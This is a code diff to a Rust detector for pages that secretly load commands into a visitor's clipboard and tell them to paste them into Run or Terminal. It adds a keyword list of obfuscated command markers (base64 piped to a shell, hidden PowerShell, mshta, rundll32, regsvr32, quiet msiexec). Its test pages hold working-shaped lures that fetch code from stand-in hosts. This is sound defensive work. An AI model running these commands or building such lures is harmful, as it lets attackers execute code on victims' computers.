@@ -18,13 +18,41 @@ pub(super) const RULE: Heuristic = Heuristic {
 
 fn check(tree: &Tree, hit: &mut Check) {
     for page in pages(tree) {
-        if let Some(command) =
-            page.first(Sign::FillsClipboard).filter(|_| tells(&page) || page.has(Sign::ChoppedText))
+        if let Some(command) = page
+            .all(Sign::FillsClipboard)
+            .find(|command| hides(command) || tells(&page) || page.has(Sign::ChoppedText))
         {
             hit(page.holder.id, command.to_string());
         }
     }
 }
+
+/// Whether a command hides what it does, or runs what lies on the computer of a stranger. No manual has that copied.
+fn hides(command: &str) -> bool {
+    let plain = command.to_lowercase().replace(['"', '^', '`'], "").replace(".exe", "");
+    HIDING.iter().any(|words| words.iter().all(|word| plain.contains(word)))
+}
+
+/// Words of commands that hide; all of one line stand there.
+const HIDING: &[&[&str]] = &[
+    &["base64 -d", "|"],
+    &["base64 --decode", "|"],
+    &["frombase64string"],
+    &["powershell", " -e ", "=="],
+    &["powershell", " -enc"],
+    &["powershell", "-w h"],
+    &["powershell", "-windowstyle h"],
+    &["powershell", "-w 1"],
+    &["conhost", "--headless"],
+    &["mshta", "http"],
+    &["mshta", "vbscript:"],
+    &["mshta", "javascript:"],
+    &["rundll32", "\\\\"],
+    &["regsvr32", "http"],
+    &["regsvr32", "\\\\"],
+    &["msiexec", "/q", "http"],
+    &["msiexec", "-q", "http"],
+];
 
 /// How readers are told to open the window that runs commands, and to paste. Blanks are taken out of the text.
 const TELLING: &[&str] = &[
@@ -91,6 +119,8 @@ mod tests {
             "<html><p>1. ファイル名を指定して実行 を開く</p><script>t.value='mshta https://a.example/x';t.select();document.execCommand('copy');</script>",
             "<html><p>⌘ + V in Terminal: I am human</p><script>navigator.clipboard.writeText('echo eA== | base64 -d | bash');</script>",
             "<html><p>Open File Explorer, press CTRL + L</p><script>navigator.clipboard.writeText('powershell -c x     # C:\\\\a.docx');</script>",
+            "<html><p>Fix it</p><script>navigator.clipboard.writeText('rundll32.exe \\\\\\\\203.0.113.9@80\\\\a\\\\x.dll,#1');</script>",
+            "<html><p>Open Terminal</p><script>b.onclick=()=>navigator.clipboard.writeText(`echo \"aW5lcnQ=\" | base64 -d | bash`)</script>",
             "<html><p>check</p><script>navigator.clipboard.writeText(atob('cG93ZXJzaGVsbCAtdyBoaWRkZW4gLWMgeA=='));</script>",
             "<html><p>check</p><script>var c=['mshta',' https',':','//a.exam','ple/x'].join('');navigator.clipboard.writeText(c);</script>",
         ] {
@@ -104,6 +134,7 @@ mod tests {
             "<html><p>Install</p><script>navigator.clipboard.writeText('curl -fsSL https://a.example/install.sh');</script>",
             "<html><p>Press Ctrl+V to paste.</p><script>navigator.clipboard.writeText(b.innerText);</script>",
             "<html><p>Press Win + R and type powershell.</p>",
+            "<html><p>Update</p><script>navigator.clipboard.writeText('winget upgrade --all');x('msiexec /i a.msi');</script>",
             "<html><p>Open Terminal and paste</p><script>navigator.clipboard.writeText('curl -fsSL https://a.example/i.sh | bash');</script>",
         ] {
             assert_eq!(hits(&RULE, "a.html", page.as_bytes()), [""; 0], "{page}");
